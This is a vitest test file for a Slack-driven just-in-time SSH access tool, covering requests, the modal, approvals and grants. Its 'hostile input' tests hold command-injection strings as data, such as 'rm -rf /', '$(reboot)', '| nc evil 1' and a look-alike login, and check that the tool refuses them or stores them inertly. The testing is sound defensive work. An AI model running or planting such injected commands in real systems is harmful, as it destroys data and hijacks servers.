import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  accessSubjects,
  addServer,
  drainAccessOutbox,
  makeKeyPair,
  recordingTargets,
  registerUserKey,
} from '../../commands/access/testing.js';
import { createRegistry } from '../../commands/index.js';
import { loadActor } from '../../commands/rbac/authorize.js';
import { getAccessRequest, getGrant } from '../../storage/access.js';
import { bindRole, createUser } from '../../storage/users.js';
import { useTestDatabase } from '../../test/db.js';
import { createTestDeps, type TestDeps } from '../../test/deps.js';
import { CHANNEL, clickPayload, nextId, type SlackAdapterHarness, startSlackAdapter } from './testing.js';

/**
 * Just-in-time access through the Slack adapter, end to end: signed slash commands, the modal,
 * the approval message and its buttons, and the grant reaching a (recording) server. The servers
 * are the access tests' recording targets, so no sshd is needed: what matters here is what Slack
 * sends in and what reaches a server's authorized_keys, not OpenSSH itself (commands/access/ssh.test.ts).
 */
const db = useTestDatabase('slack-access');
const HOUR = 3_600_000;

let slack: SlackAdapterHarness;
let deps: TestDeps;
let targets: ReturnType<typeof recordingTargets>;
let server: string;
let slug: string;
let ids: { alice: string; bob: string; carol: string };
let aliceId: number;

beforeEach(async () => {
  const sql = db.current.sql;
  const tag = nextId('');
  targets = recordingTargets();
  deps = createTestDeps(sql, {
    chatPlatforms: ['slack'],
    approvalSubjects: accessSubjects(),
    targets: targets.factory,
  });
  ids = { alice: `U${tag}ALICE`, bob: `U${tag}BOB`, carol: `U${tag}CAROL` };
  slack = await startSlackAdapter(sql, deps, createRegistry(), {
    users: (['alice', 'bob', 'carol'] as const).map((name) => ({
      id: ids[name],
      name,
      email: `${name}${tag}@example.com`,
    })),
    // Every answer comes in the acknowledgement, however slow the machine: nothing here is timed.
    fastReplyMs: 60_000,
  });
  slug = `shop-${tag}`;
  const [project] = await sql<{ id: number }[]>`
    insert into projects (slug, name, channels, settings)
    values (${slug}, 'Shop', ${sql.json({ slack: CHANNEL })},
            ${sql.json({ access: { defaultLogin: 'deploy' } })})
    returning id`;
  const projectId = project!.id;
  server = `web-${tag}`;
  await addServer(sql, { name: server, projectId });
  const user = (name: string) =>
    createUser(sql, { handle: `${name}${tag}`, displayName: name, email: `${name}${tag}@example.com` });
  const [alice, bob, carol] = [await user('alice'), await user('bob'), await user('carol')];
  await bindRole(sql, { userId: alice.id, role: 'operator', projectId });
  await bindRole(sql, { userId: bob.id, role: 'approver', projectId });
  await bindRole(sql, { userId: carol.id, role: 'operator', projectId });
  await registerUserKey(deps, await loadActor(sql, alice, 'console'), makeKeyPair('alice').publicKey);
  aliceId = alice.id;
});

afterEach(async () => {
  try {
    slack.slack.verify();
  } finally {
    await slack.stop();
  }
});

interface Ack {
  response_type: string;
  text: string;
}

async function command(text: string, user = ids.alice, extra: Record<string, string> = {}): Promise<Ack> {
  const res = await slack.command(text, user, extra);
  expect(res.status).toBe(200);
  await slack.slackApp.idle();
  return (await res.json()) as Ack;
}

/** The ids in "Request #… (approval #…) … is open", from an acknowledgement or a response_url answer. */
function opened(answer: { text?: unknown } | undefined): { requestId: number; approvalId: number } {
  const text = String(answer?.text);
  const match = /Request #(\d+) \(approval #(\d+)\)/.exec(text);
  expect(match, text).not.toBeNull();
  return { requestId: Number(match![1]), approvalId: Number(match![2]) };
}

async function counts(): Promise<{ requests: number; approvals: number; grants: number }> {
  const [row] = await db.current.sql<{ requests: number; approvals: number; grants: number }[]>`
    select (select count(*) from access_requests)::int as requests,
           (select count(*) from approval_requests)::int as approvals,
           (select count(*) from grants)::int as grants`;
  return row!;
}

/** The approval message the outbox posted for `approvalId`, with its Approve button. */
function approvalMessage(approvalId: number) {
  const message = slack.slack
    .messages(CHANNEL)
    .find((m) =>
      JSON.stringify(m.blocks ?? []).includes(`"action_id":"approval.approve","value":"${approvalId}"`),
    );
  expect(message, `no approval message with buttons for #${approvalId}`).toBeDefined();
  return message!;
}

async function click(user: string, approvalId: number, ts: string, responseId: string): Promise<void> {
  const res = await slack.interactive(
    clickPayload(slack, { user, actionId: 'approval.approve', value: String(approvalId), ts, responseId }),
  );
  expect(res.status).toBe(200);
  expect(await res.text()).toBe('');
  await slack.slackApp.idle();
}

async function grantOf(requestId: number) {
  const [row] = await db.current.sql<{ id: number }[]>`select id from grants where request_id = ${requestId}`;
  return row ? getGrant(db.current.sql, row.id) : undefined;
}

/** The modal, as Slack sends it back on submit: block id = field id, action id = field kind. */
type Values = Record<string, Record<string, Record<string, unknown>>>;

function typed(value: string) {
  return { type: 'plain_text_input', value };
}

function values(input: { target: string; duration: string; ticket: string; reason: string }): Values {
  return {
    target: {
      server: {
        type: 'external_select',
        selected_option: { text: { type: 'plain_text', text: input.target }, value: input.target },
      },
    },
    duration: { duration: typed(input.duration) },
    login: { text: typed('') },
    ticket: { text: typed(input.ticket) },
    reason: { textarea: typed(input.reason) },
    start: { text: typed('') },
    emergency: {
      select: {
        type: 'static_select',
        selected_option: { text: { type: 'plain_text', text: 'No' }, value: 'no' },
      },
    },
  };
}

async function openModal(responseId: string): Promise<Record<string, unknown>> {
  const res = await slack.command(`access request ${server}`, ids.alice, {
    response_url: slack.slack.responseUrl(responseId),
  });
  expect(res.status).toBe(200);
  expect(await res.text()).toBe('');
  await slack.slackApp.idle();
  const [call] = slack.slack.callsTo('views.open');
  expect(call?.answer).toMatchObject({ ok: true });
  return (call!.answer as { view: Record<string, unknown> }).view;
}

async function submit(view: Record<string, unknown>, state: Values): Promise<Response> {
  const res = await slack.interactive({
    type: 'view_submission',
    team: { id: slack.slack.state.teamId },
    user: { id: ids.alice, username: 'alice' },
    trigger_id: slack.slack.newTriggerId(),
    view: { ...view, state: { values: state } },
  });
  expect(res.status).toBe(200);
  return res;
}

function good() {
  return { target: server, duration: '1h', ticket: 'ops-7', reason: 'rotate the logs' };
}

describe('access requests through Slack', () => {
  it('takes a signed /warden access request, posts the approval, and grants on an approver’s click', async () => {
    const ack = await command(`access request ${server} for 2h ticket OPS-12 reason "deploy the hotfix"`);
    expect(ack.response_type).toBe('ephemeral');
    expect(ack.text).toMatch(new RegExp(`for deploy on ${server} is open\\. It waits for bob`));
    const { requestId, approvalId } = opened(ack);

    await slack.worker.drainOnce();
    const message = approvalMessage(approvalId);
    const shown = JSON.stringify(message.blocks);
    for (const text of [server, 'OPS-12', 'deploy the hotfix', 'deploy']) expect(shown).toContain(text);

    // Carol may not decide access: a private refusal, and the message stays as it was.
    await click(ids.carol, approvalId, message.ts, 'carol');
    expect(String(slack.slack.responses('carol')[0]?.text)).toMatch(/access:approve/);
    expect(slack.slack.callsTo('chat.update')).toHaveLength(0);
    expect(await grantOf(requestId)).toBeUndefined();

    deps.clock.advance(10 * 60_000);
    await click(ids.bob, approvalId, message.ts, 'bob');
    const [update] = slack.slack.callsTo('chat.update');
    expect(update?.args).toMatchObject({ channel: CHANNEL, ts: message.ts });
    const decided = slack.slack.messages(CHANNEL).find((m) => m.ts === message.ts)!;
    expect(decided.text).toMatch(/^:white_check_mark: Approval #\d+/);
    expect(JSON.stringify(decided.blocks)).toMatch(/Approved: approved by bob/);
    expect(JSON.stringify(decided.blocks)).not.toContain('approval.approve');

    const grant = (await grantOf(requestId))!;
    expect(grant).toMatchObject({
      status: 'active',
      login: 'deploy',
      ticket: 'OPS-12',
      requesterId: aliceId,
    });
    expect(grant.startsAt).toEqual(deps.clock.now());
    expect(grant.expiresAt.getTime() - grant.startsAt.getTime()).toBe(2 * HOUR);
    expect((await getAccessRequest(db.current.sql, requestId))?.status).toBe('approved');

    // After the commit: the key goes on the server, and both events reach the thread by the outbox.
    await drainAccessOutbox(deps);
    expect(targets.calls).toEqual([
      expect.objectContaining({ server, op: 'add', login: 'deploy', tag: `warden-grant-${grant.id}` }),
    ]);
    await slack.worker.drainOnce();
    const thread = slack.slack
      .thread(CHANNEL, message.ts)
      .map((m) => m.text)
      .join('\n');
    expect(thread).toMatch(/approved/i);
    expect(thread).toContain(`Grant #${grant.id}: Key added for deploy on ${server}.`);
  });
});

describe('the access request modal', () => {
  it('opens a modal for a request without its fields, with every field the command takes', async () => {
    const before = await counts();
    const view = await openModal(nextId('modal-'));
    expect(view).toMatchObject({ type: 'modal', callback_id: 'access.request' });
    const blocks = view.blocks as { block_id: string; optional: boolean; element: Record<string, unknown> }[];
    expect(blocks.map((b) => [b.block_id, b.element.type, b.optional])).toEqual([
      ['target', 'external_select', false],
      ['duration', 'plain_text_input', false],
      ['login', 'plain_text_input', true],
      ['ticket', 'plain_text_input', false],
      ['reason', 'plain_text_input', false],
      ['start', 'plain_text_input', true],
      ['emergency', 'static_select', true],
    ]);
    // What was typed after the command is already picked.
    expect(blocks[0]!.element.initial_option).toMatchObject({ value: server });
    expect(await counts()).toEqual(before);
  });

  it('answers a bad duration and a missing ticket under their fields, and creates nothing', async () => {
    const view = await openModal(nextId('modal-'));
    const before = await counts();
    const res = await submit(view, values({ ...good(), duration: 'forever', ticket: '' }));
    const body = (await res.json()) as { response_action: string; errors: Record<string, string> };
    expect(body.response_action).toBe('errors');
    expect(Object.keys(body.errors).sort()).toEqual(['duration', 'ticket']);
    expect(body.errors.duration).toMatch(/"forever" is not a duration/);
    expect(await counts()).toEqual(before);
  });

  it('answers an unknown server and a duration over the cap under their fields, and creates nothing', async () => {
    const view = await openModal(nextId('modal-'));
    const before = await counts();
    const res = await submit(view, values({ ...good(), target: 'no-such-host' }));
    const body = (await res.json()) as { response_action: string; errors: Record<string, string> };
    expect(body.response_action).toBe('errors');
    expect(body.errors).toEqual({
      target: expect.stringMatching(/there is no server or project "no-such-host"/),
    });
    const long = await submit(view, values({ ...good(), duration: '30d' }));
    expect(((await long.json()) as { errors: Record<string, string> }).errors).toEqual({
      duration: expect.stringMatching(/is longer than the .* your role \(operator\) may ask for/),
    });
    expect(await counts()).toEqual(before);
  });

  it('offers the servers and the projects Alice may read in the picker, so a whole project can be asked for', async () => {
    const suggest = async (value: string) => {
      const res = await slack.interactive({
        type: 'block_suggestion',
        user: { id: ids.alice },
        action_id: 'server',
        block_id: 'target',
        view: { id: 'V1', callback_id: 'access.request' },
        value,
      });
      return ((await res.json()) as { options: { value: string; text: { text: string } }[] }).options;
    };
    expect((await suggest(server)).map((o) => o.value)).toEqual([server]);
    const [project] = await suggest(slug);
    expect(project).toEqual({
      value: slug,
      text: { type: 'plain_text', text: `${slug} (project: every server)` },
    });

    const responseId = nextId('modal-');
    const view = await openModal(responseId);
    await submit(view, values({ ...good(), target: slug }));
    await slack.slackApp.idle();
    const { requestId } = opened(slack.slack.responses(responseId)[0]);
    expect(await getAccessRequest(db.current.sql, requestId)).toMatchObject({
      scope: 'project',
      scopeName: slug,
    });
  });

  it('opens the request once the modal is right, and answers privately where the command was typed', async () => {
    const responseId = nextId('modal-');
    const view = await openModal(responseId);
    const res = await submit(view, values(good()));
    expect(await res.text()).toBe('');
    await slack.slackApp.idle();
    const [answer] = slack.slack.responses(responseId);
    expect(answer).toMatchObject({ response_type: 'ephemeral' });
    const { requestId, approvalId } = opened(answer);
    expect(await getAccessRequest(db.current.sql, requestId)).toMatchObject({
      ticket: 'OPS-7',
      login: 'deploy',
      durationMs: HOUR,
    });
    await slack.worker.drainOnce();
    approvalMessage(approvalId);
  });
});

describe('hostile input from Slack', () => {
  const reason = 'fix it; rm -rf / $(reboot) `id` | nc evil 1\nsecond line: ünïcødé ✓ 🚀';

  it('stores a reason with shell syntax, a newline and unicode as data, and puts none of it on a server', async () => {
    const escaped = reason.replace(/"/g, '\\"');
    const { requestId, approvalId } = opened(
      await command(`access request ${server} for 1h ticket OPS-12 reason "${escaped}"`),
    );
    expect((await getAccessRequest(db.current.sql, requestId))?.reason).toBe(reason);
    await slack.worker.drainOnce();
    const message = approvalMessage(approvalId);
    await click(ids.bob, approvalId, message.ts, 'bob');
    const grant = (await grantOf(requestId))!;
    await drainAccessOutbox(deps);
    // The recording target refuses exec: only the login and the key line reach a server.
    const [added] = targets.calls;
    expect(added).toMatchObject({ op: 'add', login: 'deploy' });
    expect(added!.keyLine).toMatch(
      new RegExp(`^expiry-time="\\d{14}Z" ssh-ed25519 [A-Za-z0-9+/=]+ grant-${grant.id}$`),
    );
  });

  it.each([
    ['a ticket with a command', `ticket "OPS-12; rm -rf /" reason "x y z"`, /ticket/],
    ['a ticket with a substitution', `ticket "$(reboot)" reason "x y z"`, /ticket/],
    ['a ticket over two lines', `ticket "OPS-12\nOPS-13" reason "x y z"`, /ticket/],
    ['a login with a command', `as "deploy; rm -rf /" ticket OPS-12 reason "x y z"`, /not a login name/],
    ['a look-alike login', `as "dеploy" ticket OPS-12 reason "x y z"`, /not a login name/],
  ])('refuses %s privately and stores nothing', async (_label, rest, why) => {
    const before = await counts();
    const ack = await command(`access request ${server} for 1h ${rest}`);
    expect(ack.response_type).toBe('ephemeral');
    expect(ack.text).toMatch(why);
    expect(await counts()).toEqual(before);
    expect(slack.slack.callsTo('chat.postMessage')).toHaveLength(0);
  });

  it('takes the same reason from the modal as data, and refuses a ticket with backticks there', async () => {
    const responseId = nextId('modal-');
    const view = await openModal(responseId);
    const before = await counts();
    const refused = await submit(view, values({ ...good(), ticket: 'OPS-1`reboot`', reason }));
    const body = (await refused.json()) as { response_action: string; errors: Record<string, string> };
    expect(body.response_action).toBe('errors');
    expect(body.errors).toEqual({ ticket: expect.stringMatching(/ticket/i) });
    expect(await counts()).toEqual(before);

    expect(await (await submit(view, values({ ...good(), reason }))).text()).toBe('');
    await slack.slackApp.idle();
    const { requestId } = opened(slack.slack.responses(responseId)[0]);
    expect(await getAccessRequest(db.current.sql, requestId)).toMatchObject({ reason, ticket: 'OPS-7' });
  });
});
